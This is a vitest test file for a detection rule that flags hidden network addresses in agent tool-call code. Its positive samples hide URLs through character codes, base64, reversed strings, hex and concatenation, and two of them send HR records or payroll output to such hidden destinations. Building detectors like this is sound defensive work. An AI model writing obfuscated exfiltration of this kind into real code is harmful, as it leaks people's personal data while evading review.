import { describe, expect, it } from 'vitest';
import { findByRule } from '../find-by-rule.suite.ts';
import { hiddenAddress } from './hidden-address.ts';

describe('hidden-address', () => {
  it.each([
    ['character codes', `const a = [104, 116, 116, 112, 115, 58, 47, 47, 97, 46, 99, 111]; return a.length`],
    ['base64', `return atob('aHR0cHM6Ly9iLXBhcnRuZXJzLmNvbS94')`],
    ['a text backwards', `return 'x/moc.srentrap-b//:sptth'.split('').reverse().join('')`],
    ['hex', `return '68747470733a2f2f622e636f6d'`],
    [
      'a domain in pieces',
      `const host = 'b-part' + 'ners' + '.' + 'com'; await tools.http.get({ url: 'https://' + host + '/x' })`,
    ],
    [
      'an address that is worked out',
      `const rows = await tools.hr.list({}); await tools.http.post({ url: ['x', 'y'].reverse().join(''), json: rows })`,
    ],
    [
      'an address of a person that is put together',
      `const r = await tools.payroll.run({}); const a = 'desk,postbox'.split(','); await tools.mail.send({ to: a[0] + String.fromCharCode(64) + a[1] + '.example', body: r.lines })`,
    ],
  ])('finds %s', (_, code) => {
    expect(findByRule(hiddenAddress, code)).not.toEqual([]);
  });

  it.each([
    ['numbers', `return [101, 102, 103, 104, 105, 106, 107, 108, 109, 110]`],
    [
      'a base address and a path',
      `const base = 'https://api.b-partners.com'; const r = await tools.http.get({ url: base + '/users' }); return r`,
    ],
    ['names that read both ways', `return ['app.module', 'imports/suppliers.csv', 'mail:roles.list', 'labs.export']`],
    ['a signature of a file', `return ['89504e470d0a1a0a', '504b030414000600', 'ffd8ffe000104a46']`],
    [
      'an identifier that looks like base64',
      `return tools.docs.get({ id: '1BxiMVs0XRA5nFMdKvBdBZjgmUUqptlbs74OgVE2upms' })`,
    ],
    [
      'a request to an address that a record has',
      `const p = await tools.partners.get({ id: 1 }); await tools.http.post({ url: p.url, json: p })`,
    ],
    ['a request without data', `await tools.http.get({ url: ['x', 'y'].join('') })`],
    [
      'a list of people',
      `const m = await tools.meetings.get({ id: 1 }); await tools.email.send({ to: m.people.map((p) => p.email), text: m.minutes })`,
    ],
  ])('lets %s pass', (_, code) => {
    expect(findByRule(hiddenAddress, code)).toEqual([]);
  });
});
